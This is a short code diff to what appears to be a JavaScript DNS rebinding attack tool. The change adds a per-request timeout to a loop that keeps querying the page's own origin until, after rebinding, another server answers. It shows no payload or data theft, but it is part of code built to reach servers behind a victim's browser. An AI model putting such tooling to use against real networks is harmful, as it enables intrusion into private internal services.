@@ -148,10 +148,13 @@ async function attack(target) {
   return [...made, await attempt("window", last, target)];
 }
 
-/** Asks its own origin until somebody answers: after DNS rebinding, whoever is there now. */
+/**
+ * Asks its own origin until a server answers: after DNS rebinding, the server that the name leads to now. A busy browser
+ * sometimes never sends a request on a connection that it opened before, so each request has a limit.
+ */
 async function untilAnswered() {
   for (;;) {
-    const learned = await ask(`/${Math.random()}`).catch(() => "");
+    const learned = await ask(`/${Math.random()}`, { signal: AbortSignal.timeout(5_000) }).catch(() => "");
     if (learned) return learned;
     await new Promise((resolve) => setTimeout(resolve, 100));
   }
